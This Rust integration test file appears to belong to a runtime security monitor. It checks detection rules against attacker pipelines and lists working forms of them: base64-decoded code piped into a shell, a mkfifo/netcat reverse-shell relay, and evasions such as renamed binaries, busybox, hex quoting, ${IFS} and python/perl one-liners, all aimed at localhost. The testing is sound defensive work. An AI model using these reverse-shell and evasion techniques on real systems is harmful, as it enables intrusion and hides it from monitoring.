//! The data-flow rules against what an attacker tries first when a command line gives them away
//! (issue 13, item 7): each pipeline typed into a shell that reads its commands from a pipe (as behind
//! a reverse shell), written in a script file, and started by a Python `subprocess` without any shell;
//! then the evasions: a renamed copy of nc or curl, busybox applets, `$'\x..'` quoting, the command in
//! a variable, `${IFS}` for blanks, and `python3 -c` / `perl -e` one-liners. Each case must give its
//! rule's finding exactly once; the benign look-alikes (a package install piping curl to a checksum,
//! an entrypoint decoding its configuration into a file, a health check with nc) nothing MEDIUM or
//! above. Renamed copies are known by content: the run is given an image baseline holding the real
//! programs' digests, as `runwarden baseline` writes it in an image.

mod common;

use std::path::Path;

use common::*;
use serde_json::Value;

/// `echo pwned-by-<case>` in base64 is built per case; this is the decoded prefix the payloads print.
const MARK: &str = "pwned-by-";

struct Case {
    name: &'static str,
    /// Files written into the case's directory first: (name, contents); `{d}` is the directory,
    /// `{p}` the payload (base64 of `echo pwned-by-NAME`).
    files: &'static [(&'static str, &'static str)],
    /// What the workload runs (`sh -c`), with the same substitutions.
    run: &'static str,
    /// The rule that must fire once (None: a benign look-alike, nothing MEDIUM or above).
    want: Option<&'static str>,
    /// The payload runs and prints its mark (checked on stdout): the attack really worked.
    prints: bool,
}

const CURL_B64: &str = "curl -s --max-time 1 http://127.0.0.1:9/p.b64";
const FIFO_NC: &str = "rm -f {d}/f; mkfifo {d}/f; cat {d}/f | sh -i 2>&1 | NC 127.0.0.1 9 > {d}/f; true";

/// A Python subprocess pipeline, no shell anywhere: `A | B`.
const PY_PIPE: &str = "import subprocess as s, sys\n\
a = s.Popen(sys.argv[1].split(), stdin=s.PIPE, stdout=s.PIPE)\n\
b = s.Popen(sys.argv[2].split(), stdin=a.stdout)\n\
a.stdout.close(); a.stdin.write(sys.argv[3].encode() + b'\\n'); a.stdin.close()\n\
b.wait(); a.wait()\n";

const CASES: &[Case] = &[
    // Piped encoded code execution, three ways of typing it.
    Case { name: "decode-to-sh-typed", files: &[("t", "echo {p} | base64 -d | sh\n")], run: "cat {d}/t | sh", want: Some("piped_encoded_code_execution"), prints: true },
    Case { name: "decode-to-sh-script", files: &[("s.sh", "echo {p} | base64 -d | sh\n")], run: "sh {d}/s.sh", want: Some("piped_encoded_code_execution"), prints: true },
    Case { name: "decode-to-sh-python", files: &[("p.py", PY_PIPE)], run: "python3 {d}/p.py 'base64 -d' sh {p}", want: Some("piped_encoded_code_execution"), prints: true },
    // Piped encoded download, three ways.
    Case { name: "download-decode-typed", files: &[("t", "CURL | base64 -d > /dev/null\n")], run: "cat {d}/t | sh", want: Some("piped_encoded_download"), prints: false },
    Case { name: "download-decode-script", files: &[("s.sh", "CURL | base64 -d > /dev/null\n")], run: "sh {d}/s.sh", want: Some("piped_encoded_download"), prints: false },
    Case { name: "download-decode-python", files: &[("p.py", PY_PIPE)], run: "python3 {d}/p.py 'curl -s --max-time 1 http://127.0.0.1:9/p.b64' 'base64 -d' x", want: Some("piped_encoded_download"), prints: false },
    // A netcat relay, three ways (nc's connection is refused: the pipeline is the finding).
    Case { name: "netcat-relay-typed", files: &[("t", "FIFO_NC_NC\n")], run: "cat {d}/t | sh", want: Some("reverse_shell_netcat_pipeline"), prints: false },
    Case { name: "netcat-relay-script", files: &[("s.sh", "FIFO_NC_NC\n")], run: "sh {d}/s.sh", want: Some("reverse_shell_netcat_pipeline"), prints: false },
    Case { name: "netcat-relay-python", files: &[("p.py", "import subprocess as s\nsh = s.Popen(['sh', '-i'], stdin=s.PIPE, stdout=s.PIPE, stderr=s.STDOUT)\nnc = s.Popen(['nc', '127.0.0.1', '9'], stdin=sh.stdout, stdout=sh.stdin)\nsh.stdout.close(); sh.stdin.close(); nc.wait(); sh.wait()\n")], run: "python3 {d}/p.py", want: Some("reverse_shell_netcat_pipeline"), prints: false },
    // Evasions.
    Case { name: "renamed-nc", files: &[], run: "cp \"$(command -v nc.openbsd)\" {d}/updater; FIFO_NC_UPDATER", want: Some("reverse_shell_netcat_pipeline"), prints: false },
    Case { name: "renamed-curl", files: &[("s.sh", "{d}/fetch -s --max-time 1 http://127.0.0.1:9/p.b64 | base64 -d > /dev/null\n")], run: "cp \"$(command -v curl)\" {d}/fetch; sh {d}/s.sh", want: Some("piped_encoded_download"), prints: false },
    Case { name: "busybox-nc", files: &[], run: "FIFO_NC_BUSYBOX", want: Some("reverse_shell_netcat_pipeline"), prints: false },
    Case { name: "busybox-base64", files: &[("t", "echo {p} | busybox base64 -d | busybox sh\n")], run: "cat {d}/t | sh", want: Some("piped_encoded_code_execution"), prints: true },
    Case { name: "busybox-wget", files: &[("t", "busybox wget -q -T 1 -O- http://127.0.0.1:9/p.b64 | busybox base64 -d > /dev/null\n")], run: "cat {d}/t | sh", want: Some("piped_encoded_download"), prints: false },
    Case { name: "hex-quoting", files: &[("s.sh", "echo {p} | $'\\x62\\x61\\x73\\x65\\x36\\x34' -d | bash\n")], run: "bash {d}/s.sh", want: Some("piped_encoded_code_execution"), prints: true },
    Case { name: "variable", files: &[], run: "D='base64 -d'; S=sh; echo {p} | $D | $S", want: Some("piped_encoded_code_execution"), prints: true },
    Case { name: "ifs", files: &[("s.sh", "echo {p}|base64${IFS}-d|sh\n")], run: "sh {d}/s.sh", want: Some("piped_encoded_code_execution"), prints: true },
    Case { name: "python-decoder", files: &[], run: "python3 -c \"import base64;print(base64.b64decode('{p}').decode())\" | sh", want: Some("piped_encoded_code_execution"), prints: true },
    Case { name: "python-one-liner", files: &[], run: "python3 -c \"import base64,os;os.system(base64.b64decode('{p}').decode())\"", want: Some("base64_python_executed"), prints: true },
    Case { name: "perl-decoder", files: &[], run: "perl -MMIME::Base64 -e 'print decode_base64(\"{p}\")' | sh", want: Some("piped_encoded_code_execution"), prints: true },
    Case { name: "perl-one-liner", files: &[], run: "perl -MMIME::Base64 -e 'system(decode_base64(\"{p}\"))'", want: Some("base64_script_executed"), prints: true },
    // Benign look-alikes.
    Case { name: "curl-to-checksum", files: &[], run: "CURL | sha256sum > /dev/null", want: None, prints: false },
    Case { name: "config-from-base64", files: &[], run: "echo eyJwb3J0IjogODA4MH0= | base64 -d > {d}/config.json; python3 -c \"import base64,sys;print(base64.b64decode('e30=').decode())\" > {d}/c2.json", want: None, prints: false },
    Case { name: "health-check", files: &[], run: "nc -z -w 1 127.0.0.1 9 || true", want: None, prints: false },
];

fn fill(s: &str, dir: &Path, payload: &str) -> String {
    let fifo = |nc: &str| FIFO_NC.replace("NC", nc);
    s.replace("FIFO_NC_NC", &fifo("nc"))
        .replace("FIFO_NC_UPDATER", &fifo("{d}/updater"))
        .replace("FIFO_NC_BUSYBOX", &fifo("busybox nc"))
        .replace("CURL", CURL_B64)
        .replace("{d}", &dir.display().to_string())
        .replace("{p}", payload)
}

fn base64(data: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(T[(n >> (18 - 6 * i)) as usize & 63] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// An image baseline holding the real nc, curl, base64 and busybox of this machine (what
/// `runwarden baseline` records in an image), so that copies of them are known by content.
fn baseline(dir: &Path) -> std::path::PathBuf {
    let mut files = serde_json::Map::new();
    for p in ["/usr/bin/nc.openbsd", "/usr/bin/curl", "/usr/bin/base64", "/usr/bin/busybox", "/usr/bin/dash"]
    {
        let real = std::fs::canonicalize(p)
            .unwrap_or_else(|e| panic!("{p}: {e} (integration/setup.sh installs it)"));
        let size = std::fs::metadata(&real).unwrap().len();
        let out = std::process::Command::new("sha256sum").arg(&real).output().unwrap();
        let sha = String::from_utf8_lossy(&out.stdout).split_whitespace().next().unwrap_or("").to_string();
        assert_eq!(sha.len(), 64, "sha256sum {}", real.display());
        files.insert(p.to_string(), serde_json::json!({ "sha256": sha, "size": size, "mode": 0o755 }));
    }
    let path = dir.join("baseline.json");
    let doc =
        serde_json::json!({ "version": 1, "created": "2026-12-05T00:00:00Z", "root": "/", "files": files });
    std::fs::write(&path, doc.to_string()).unwrap();
    path
}

fn run_case(case: &Case) -> Result<(), String> {
    let dir = tempfile::tempdir().unwrap();
    let payload = base64(format!("echo {MARK}{}\n", case.name).as_bytes());
    for (name, contents) in case.files {
        std::fs::write(dir.path().join(name), fill(contents, dir.path(), &payload)).unwrap();
    }
    let sink = dir.path().join("findings.jsonl");
    let quiet_root = dir.path().join("watch-root");
    std::fs::create_dir(&quiet_root).unwrap();
    let mut cmd = rw();
    cmd.env("RUNWARDEN_SINKS", format!("file:{}", sink.display()))
        .env("RUNWARDEN_BASELINE", baseline(dir.path()))
        // The host's own /etc is not the workload's: the file watcher gets an empty tree.
        .env("RUNWARDEN_WATCH_ROOT", &quiet_root)
        .args(["--", "sh", "-c", &fill(case.run, dir.path(), &payload)]);
    let out = run(&mut cmd, TIMEOUT);
    let findings = read_findings(&sink);
    let summary = || {
        findings
            .iter()
            .map(|f| format!("  {} {} | {}", f["severity"], f["rule"]["id"], f["processes"][0]["args"]))
            .collect::<Vec<_>>()
            .join("\n")
    };
    if case.prints && !out.stdout().contains(&format!("{MARK}{}", case.name)) {
        return Err(format!(
            "{}: the payload did not run (stdout {:?}, stderr {})",
            case.name,
            out.stdout(),
            out.stderr()
        ));
    }
    match case.want {
        Some(rule) => {
            let hits: Vec<&Value> = findings.iter().filter(|f| f["rule"]["id"] == rule).collect();
            if hits.len() != 1 {
                return Err(format!(
                    "{}: {} findings of {rule}, want 1:\n{}",
                    case.name,
                    hits.len(),
                    summary()
                ));
            }
        }
        None => {
            let loud: Vec<&Value> = findings
                .iter()
                .filter(|f| matches!(f["severity"].as_str(), Some("MEDIUM" | "HIGH" | "CRITICAL")))
                .collect();
            if !loud.is_empty() {
                return Err(format!("{}: benign, yet:\n{}", case.name, summary()));
            }
        }
    }
    Ok(())
}

#[test]
fn data_flow_rules_hold_against_evasions() {
    let problems: Vec<String> = CASES.iter().filter_map(|c| run_case(c).err()).collect();
    assert!(
        problems.is_empty(),
        "{} of {} cases failed:\n{}",
        problems.len(),
        CASES.len(),
        problems.join("\n\n")
    );
}

#[test]
fn the_base64_helper_is_right() {
    assert_eq!(base64(b"echo hi\n"), "ZWNobyBoaQo=");
    assert_eq!(base64(b"ab"), "YWI=");
    assert_eq!(base64(b"abc"), "YWJj");
}
